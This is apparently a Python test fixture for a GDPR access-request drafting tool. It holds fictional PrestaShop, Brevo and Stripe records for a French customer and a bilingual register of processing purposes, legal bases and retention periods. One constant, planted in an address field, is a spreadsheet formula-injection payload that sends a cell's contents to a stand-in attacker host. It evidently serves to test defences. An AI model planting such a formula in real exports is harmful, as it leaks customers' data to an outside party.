"""A demo PrestaShop-like customer for drafting tests: records as the gatherer returns them, and a small
register of processing in French and English (built through `bot.drafting.facts.Processing`'s shape)."""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from integrations.base import Record

EMAIL = "camille.martin@example.fr"
NAME = "Camille Martin"
FETCHED = "2026-03-02T09:15:00+00:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
OTHER_EMAIL = "julie.bernard@example.com"
OTHER_PHONE = "06 12 34 56 78"
OWN_PHONE = "06 11 22 33 44"


def _record(entity: str, record_id: str, fields: dict[str, Any], direct: bool = False, system: str = "PrestaShop",
            source: str = "shop_db") -> Record:
    return Record(source=source, system=system, entity=entity, record_id=record_id, fields=fields,
                  fetched_at=FETCHED, matched_on=["email"] if direct else ["id_customer via ps_customer"])


def records() -> list[Record]:
    found = [
        _record("ps_customer", "42", {
            "id_customer": 42, "firstname": "Camille", "lastname": "Martin", "email": EMAIL,
            "birthday": "1988-04-17", "newsletter": True, "newsletter_date_add": "2024-05-02 10:11:12",
            "optin": False, "date_add": "2024-05-02 10:11:12", "last_passwd_gen": "2025-11-03 08:00:00"},
            direct=True),
        _record("ps_address", "101", {
            "alias": "Maison", "firstname": "Camille", "lastname": "Martin", "address1": "12 rue des Lilas",
            "postcode": "75011", "city": "Paris", "country": "France", "phone_mobile": OWN_PHONE,
            "other": HYPERLINK}),
        _record("ps_address", "102", {
            "alias": "Cadeau Julie", "firstname": "Julie", "lastname": "Bernard", "address1": "5 avenue Foch",
            "postcode": "69006", "city": "Lyon", "country": "France", "phone_mobile": "", "other": ""}),
    ]
    for i, (ref, total, gift, message) in enumerate([
        ("XKBKNABJK", "59.90", False, ""),
        ("OHSATSERP", "24.50", True, "Joyeux anniversaire Julie Bernard ! Je t'embrasse, Camille"),
        ("FFATNOMMJ", "112.00", False, ""),
    ], start=7):
        found.append(_record("ps_orders", str(i), {
            "reference": ref, "total_paid": total, "payment": "Carte bancaire", "current_state": "Livré",
            "date_add": f"2025-0{i - 5}-1{i} 14:02:00", "gift": gift, "gift_message": message,
            "id_address_delivery": 102 if gift else 101}))
    found.append(_record("ps_customer_message", "900", {
        "id_customer_thread": 31,
        "message": (f"Bonjour, mon colis a été livré chez ma voisine Julie Bernard ({OTHER_EMAIL}, "
                    f"{OTHER_PHONE}). Pouvez-vous me rappeler au {OWN_PHONE} ou m'écrire à {EMAIL} ? "
                    f"Merci, {NAME}"),
        "date_add": "2025-09-14 18:20:00"}))
    for i in range(12):
        found.append(_record("ps_connections", str(5000 + i), {
            "id_guest": 77, "date_add": f"2026-02-{10 + i:02d} 20:{i:02d}:00", "ip_address": f"203.0.113.{i + 1}",
            "http_referer": "https://www.google.com/" if i % 3 == 0 else ""}))
    found.append(_record("contacts", "camille.martin@example.fr", {
        "email": EMAIL, "emailBlacklisted": False, "listIds": [3], "attributes": {"PRENOM": "Camille", "NOM": "Martin"},
        "createdAt": "2024-05-02T10:11:15+02:00"}, direct=True, system="Brevo", source="brevo"))
    return found


@dataclass
class Processing:
    category: str
    purposes: list[str]
    legal_basis: str
    recipients: list[str] = field(default_factory=list)
    retention: str = ""
    origin: str = "subject"
    origin_source: str = ""
    transfers: list[dict[str, str]] = field(default_factory=list)
    automated_decision: dict[str, Any] | None = None
    legal_basis_note: str = ""


#: (source, entity, field or None) -> {language: Processing}
ENTRIES: dict[tuple[str, str, str | None], dict[str, Processing]] = {
    ("shop_db", "ps_customer", None): {
        "fr": Processing("Identité et coordonnées", ["Gestion de votre compte client"], "contract",
                         ["Hébergeur du site : OVHcloud (France)"], "3 ans après votre dernier achat"),
        "en": Processing("Identity and contact details", ["Managing your customer account"], "contract",
                         ["Website host: OVHcloud (France)"], "3 years after your last purchase")},
    ("shop_db", "ps_customer", "newsletter"): {
        "fr": Processing("Préférences marketing", ["Envoi de notre lettre d'information"], "consent",
                         ["Brevo (Sendinblue SAS, France)"], "Jusqu'au retrait de votre consentement"),
        "en": Processing("Marketing preferences", ["Sending our newsletter"], "consent",
                         ["Brevo (Sendinblue SAS, France)"], "Until you withdraw your consent")},
    ("shop_db", "ps_address", None): {
        "fr": Processing("Adresses", ["Livraison de vos commandes"], "contract", ["Colissimo (La Poste)"],
                         "3 ans après votre dernier achat"),
        "en": Processing("Addresses", ["Delivering your orders"], "contract", ["Colissimo (La Poste)"],
                         "3 years after your last purchase")},
    ("shop_db", "ps_orders", None): {
        "fr": Processing("Commandes", ["Exécution de vos commandes", "Tenue de notre comptabilité"], "contract",
                         ["Cabinet comptable Dupré & Associés"], "10 ans (article L123-22 du Code de commerce)"),
        "en": Processing("Orders", ["Fulfilling your orders", "Keeping our accounts"], "contract",
                         ["Dupré & Associés, accountants"], "10 years (French Commercial Code, art. L123-22)")},
    ("shop_db", "ps_customer_message", None): {
        "fr": Processing("Échanges avec le service client", ["Répondre à vos demandes"], "legitimate_interests",
                         [], "3 ans après le dernier échange", legal_basis_note="Suivi de la relation client"),
        "en": Processing("Customer service messages", ["Answering your questions"], "legitimate_interests",
                         [], "3 years after the last message",
                         legal_basis_note="Following up our customer relationship")},
    ("shop_db", "ps_connections", None): {
        "fr": Processing("Navigation sur le site", ["Mesure d'audience", "Sécurité du site"], "legitimate_interests",
                         [], "13 mois", origin="observed", legal_basis_note="Sécurité et amélioration du site"),
        "en": Processing("Browsing on the website", ["Audience measurement", "Website security"],
                         "legitimate_interests", [], "13 months", origin="observed",
                         legal_basis_note="Keeping the website secure and improving it")},
    ("brevo", "contacts", None): {
        "fr": Processing("Préférences marketing", ["Envoi de notre lettre d'information"], "consent",
                         ["Brevo (Sendinblue SAS, France)"], "Jusqu'au retrait de votre consentement"),
        "en": Processing("Marketing preferences", ["Sending our newsletter"], "consent",
                         ["Brevo (Sendinblue SAS, France)"], "Until you withdraw your consent")},
}

#: Extra entries for the variant with a transfer, a third-party source and an automated decision.
EXTRA_ENTRIES: dict[tuple[str, str, str | None], dict[str, Processing]] = {
    ("stripe", "customers", None): {
        "fr": Processing("Paiements", ["Encaissement de vos paiements"], "contract", ["Stripe Payments Europe Ltd"],
                         "13 mois après la transaction",
                         transfers=[{"country": "États-Unis", "recipient": "Stripe, Inc.",
                                     "safeguard": "Clauses contractuelles types de la Commission européenne (décision 2021/914)"}],
                         automated_decision={"name": "Détection de la fraude au paiement",
                                             "logic": "Un score de risque calculé à partir du montant, du pays de la carte et de l'historique de paiement.",
                                             "significance": "Un paiement au score trop élevé est bloqué.",
                                             "consequences": "Votre commande peut être refusée ; vous pouvez demander un réexamen humain."},
                         origin="third_party", origin_source="Stripe Radar (réseau antifraude de Stripe)"),
        "en": Processing("Payments", ["Taking your payments"], "contract", ["Stripe Payments Europe Ltd"],
                         "13 months after the transaction",
                         transfers=[{"country": "United States", "recipient": "Stripe, Inc.",
                                     "safeguard": "European Commission standard contractual clauses (decision 2021/914)"}],
                         automated_decision={"name": "Payment fraud detection",
                                             "logic": "A risk score computed from the amount, the card's country and payment history.",
                                             "significance": "A payment whose score is too high is blocked.",
                                             "consequences": "Your order may be refused; you can ask for a human review."},
                         origin="third_party", origin_source="Stripe Radar (Stripe's fraud network)")},
}


def stripe_record() -> Record:
    return _record("customers", "cus_Q1w2E3r4", {"email": EMAIL, "name": NAME, "risk_level": "normal",
                                                 "created": "2025-06-17T14:01:00Z"},
                   direct=True, system="Stripe", source="stripe")


class DemoRegister:
    """Answers like `bot.register.Register.describe`: field entries fall back to the table's."""

    def __init__(self, entries: dict[tuple[str, str, str | None], dict[str, Processing]]) -> None:
        self.entries = entries

    def describe(self, source: str, entity: str, field: str | None = None, language: str = "fr") -> Processing:
        entry = self.entries.get((source, entity, field)) or self.entries.get((source, entity, None))
        if entry is None:
            raise KeyError(f"{source}.{entity}")
        return entry.get(language) or entry["en"]


@dataclass
class GatherResult:
    """The shape of bot.gathering.GatherResult that the drafter reads."""

    records: list[Record]
    sources: dict[str, dict[str, Any]] = field(default_factory=dict)
    complete: bool = True
